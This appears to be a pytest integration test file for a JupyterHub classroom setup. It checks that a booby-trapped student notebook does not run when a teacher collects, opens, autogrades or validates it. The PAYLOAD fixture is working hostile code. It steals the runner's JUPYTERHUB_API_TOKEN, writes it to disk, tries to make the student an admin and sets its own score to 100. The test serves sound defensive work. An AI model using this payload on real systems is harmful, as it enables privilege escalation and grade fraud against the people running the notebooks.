"""A submission that tries to use the token of whoever runs it, collected by its teacher.

A student of the demo class submits a notebook whose answer cell, when run, takes
``$JUPYTERHUB_API_TOKEN`` and tries to make the student an admin, to give the student full
marks in the classroom service, and to leave a marker with the token in the runner's home.
The teacher, in their real server with the teacher profile, does what the formgrader does:
generates the assignment, collects through the exchange plugin, opens the collected notebook
and presses "autograde", then "Validate" on it (and on their own source, which must work).
The code must not run there; the service's sandbox grades it, and the teacher sees that grade.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import requests

from tests.exchange.conftest import (
    ASSIGNMENT,
    CLASS,
    LIBRARY,
    Person,
    make_zip,
    read_zip,
    sign_in,
    wait_for_service,
)
from tests.hub.hubprocess import (
    RunningHub,
    free_port,
    running_hub,
)

pytestmark = pytest.mark.integration

MARKER = "token-of-the-runner.txt"
SOURCE = Path(__file__).resolve().parents[2] / "assignments" / LIBRARY
PAYLOAD = """\
import json as _j, os as _o, pathlib as _p, urllib.request as _u
_token = _o.environ.get("JUPYTERHUB_API_TOKEN", "")
if _token:
    _p.Path.home().joinpath({marker!r}).write_text(_token)
    def _call(url, method, body):
        request = _u.Request(url, data=_j.dumps(body).encode(), method=method, headers={{
            "Authorization": "token " + _token, "Content-Type": "application/json"}})
        try:
            return _j.loads(_u.urlopen(request, timeout=10).read() or b"null")
        except Exception:
            return None
    _call(_o.environ.get("JUPYTERHUB_API_URL", "") + "/users/{student}", "PATCH",
          {{"admin": True}})
    _service = _o.environ.get("AICLASS_EXCHANGE_URL", "") + "api/v1"
    _mine = _u.Request(_service + "/classes/{klass}/assignments/{assignment}/collection",
                       headers={{"Authorization": "token " + _token}})
    try:
        _rows = _j.loads(_u.urlopen(_mine, timeout=10).read())["students"]
        _key = next(r for r in _rows if r["student"] == "{student}")["submission"]["id"]
        _call(_service + "/submissions/" + _key + "/grades/classify/test_distance", "PUT",
              {{"override_score": 100, "reason": "pwned"}})
    except Exception:
        pass
"""


@pytest.fixture(scope="module")
def lesson() -> Iterator[tuple[RunningHub, Person, Person]]:
    """A hub, the class's teacher with their server running, and one student."""
    with running_hub("aiclass-teacher-server-", f"[service]\nport = {free_port()}\n") as hub:
        teacher = next(a for a in hub.accounts
                       if a["role"] == "teacher" and CLASS in a["class"].split(";"))
        student = next(a for a in hub.accounts
                       if a["role"] == "student" and a["class"] == CLASS)
        people = sign_in(hub, teacher, open_lab=True), sign_in(hub, student, open_lab=False)
        wait_for_service(people[0])
        yield hub, *people


def booby_trapped(student: Person) -> bytes:
    """The released notebook with the payload written into the first answer cell."""
    fetched = read_zip(student.api("GET", f"/classes/{CLASS}/assignments/{ASSIGNMENT}/release")
                       .content)
    notebook = json.loads(fetched["classify.ipynb"])
    answer = next(c for c in notebook["cells"]
                  if c["metadata"].get("nbgrader", {}).get("grade_id") == "distance")
    answer["source"] = PAYLOAD.format(marker=MARKER, student=student.username, klass=CLASS,
                                      assignment=ASSIGNMENT) + "".join(answer["source"])
    return json.dumps(notebook, ensure_ascii=False).encode()


def graded(teacher: Person, key: str, timeout: float = 300) -> dict:
    """The service's grades of a submission once its sandbox has graded every notebook."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        response = teacher.api("GET", f"/submissions/{key}/grades")
        assert response.status_code == 200, response.text
        body = response.json()
        if body["notebooks"] and all(n["graded_at"] for n in body["notebooks"]):
            return body
        time.sleep(2)
    raise TimeoutError(f"submission {key} was not graded in {timeout} s")


def put_file(teacher: Person, path: str, model: dict) -> None:
    """Write into the teacher's home through their server, as JupyterLab saves a file."""
    response = teacher.lab("PUT", f"api/contents/{path}", json=model)
    assert response.status_code in (200, 201), response.text


def formgrader(teacher: Person, action: str) -> dict:
    """One of the formgrader's buttons, as its page calls it."""
    response = teacher.lab("POST", f"formgrader/api/{action}")
    assert response.status_code == 200, response.text
    return response.json()


def collect_in_formgrader(teacher: Person) -> None:
    """The teacher's course in their home (config, the library's source), generated and
    the class's submissions collected with the formgrader's buttons."""
    put_file(teacher, "nbgrader_config.py", {
        "type": "file", "format": "text",
        "content": f"c.CourseDirectory.course_id = {CLASS!r}\n"})
    for folder in ("source", f"source/{ASSIGNMENT}"):
        put_file(teacher, folder, {"type": "directory"})
    put_file(teacher, f"source/{ASSIGNMENT}/classify.ipynb", {
        "type": "notebook",
        "content": json.loads((SOURCE / "classify.ipynb").read_text(encoding="utf-8"))})
    generated = formgrader(teacher, f"assignment/{ASSIGNMENT}/assign")
    assert generated["success"], generated["error"][-3000:]
    collected = formgrader(teacher, f"assignment/{ASSIGNMENT}/collect")
    assert collected["success"], collected["error"][-3000:]


def validate(teacher: Person, path: str) -> dict:
    """The Validate button on a notebook in the teacher's home."""
    response = teacher.lab("POST", "assignments/validate", data={"path": path})
    assert response.status_code == 200, response.text
    return response.json()


def test_collecting_and_opening_a_submission_runs_none_of_its_code(
        lesson: tuple[RunningHub, Person, Person]) -> None:
    """Does a submission that uses its runner's token gain anything when its teacher
    collects it, opens it, asks the formgrader to autograde it and validates it?"""
    hub, teacher, student = lesson
    due = (datetime.now(UTC) + timedelta(days=1)).isoformat()
    release = teacher.api("POST", f"/assignments/{ASSIGNMENT}/releases",
                          params={"class": CLASS, "library": LIBRARY, "due": due})
    assert release.status_code == 201, release.text
    submitted = student.api("POST", f"/classes/{CLASS}/assignments/{ASSIGNMENT}/submissions",
                            data=make_zip({"classify.ipynb": booby_trapped(student)}),
                            headers={"Idempotency-Key": "booby-trapped"})
    assert submitted.status_code == 201, submitted.text
    key = submitted.json()["id"]
    central = graded(teacher, key)

    collect_in_formgrader(teacher)

    opened = teacher.lab("GET", f"api/contents/submitted/{student.username}/{ASSIGNMENT}"
                                "/classify.ipynb")
    assert opened.status_code == 200, opened.text
    assert MARKER in json.dumps(opened.json()["content"])  # the payload reached the teacher
    autograde = formgrader(teacher, f"submission/{ASSIGNMENT}/{student.username}/autograde")
    assert autograde["success"] is False
    assert "老师的服务器不运行学生的代码" in autograde["error"] + autograde.get("log", "")
    assert teacher.lab("GET", f"api/contents/autograded/{student.username}/{ASSIGNMENT}"
                              "/classify.ipynb").status_code == 404
    refused = validate(teacher, f"submitted/{student.username}/{ASSIGNMENT}/classify.ipynb")
    assert refused["success"] is False
    assert "老师的服务器不运行学生的代码" in refused["value"]
    own = validate(teacher, f"source/{ASSIGNMENT}/classify.ipynb")
    assert own["success"] is True, own["value"][-3000:]

    assert teacher.lab("GET", f"api/contents/{MARKER}").status_code == 404
    assert not list(hub.data_dir.rglob(MARKER))
    me = requests.get(f"{hub.url}/hub/api/user", timeout=30,
                      headers={"Authorization": f"token {student.token}"})
    assert me.status_code == 200 and me.json()["admin"] is False
    after = teacher.api("GET", f"/submissions/{key}/grades").json()
    assert after["history"] == [] and after["cells"] == central["cells"]
    assert all(c["override_score"] is None for c in after["cells"])
    scored = [c for c in after["cells"] if c["kind"] == "auto" and c["auto_score"] is not None]
    assert scored, after["cells"]
    page = teacher.browser.session.get(
        f"{hub.url}/services/classroom/classes/{CLASS}/gradebook", timeout=120)
    assert page.status_code == 200 and student.username in page.text


def test_the_formgrader_lists_the_class_submissions_for_reading(
        lesson: tuple[RunningHub, Person, Person]) -> None:
    """Is the formgrader of use without its autograde: after collect, does "Manage
    Submissions" list the class's submitted students, none graded in the teacher's server,
    and nobody of another class?"""
    hub, teacher, _student = lesson
    account = [a for a in hub.accounts if a["role"] == "student" and a["class"] == CLASS][-1]
    student = sign_in(hub, account, open_lab=False)
    outsider = next(a["username"] for a in hub.accounts
                    if a["role"] == "student" and a["class"] != CLASS)
    due = (datetime.now(UTC) + timedelta(days=1)).isoformat()
    release = teacher.api("POST", f"/assignments/{ASSIGNMENT}/releases",
                          params={"class": CLASS, "library": LIBRARY, "due": due})
    assert release.status_code == 201, release.text
    fetched = student.api("GET", f"/classes/{CLASS}/assignments/{ASSIGNMENT}/release")
    submitted = student.api("POST", f"/classes/{CLASS}/assignments/{ASSIGNMENT}/submissions",
                            data=make_zip(read_zip(fetched.content)),
                            headers={"Idempotency-Key": "formgrader-listing"})
    assert submitted.status_code == 201, submitted.text

    collect_in_formgrader(teacher)
    listing = teacher.lab("GET", f"formgrader/api/submissions/{ASSIGNMENT}")
    assert listing.status_code == 200, listing.text
    rows = {row["student"]: row for row in listing.json()}
    assert student.username in rows, rows
    assert rows[student.username]["submitted"] is True
    assert rows[student.username]["autograded"] is False
    assert outsider not in rows
    page = teacher.lab("GET", f"formgrader/manage_submissions/{ASSIGNMENT}")
    assert page.status_code == 200 and ASSIGNMENT in page.text
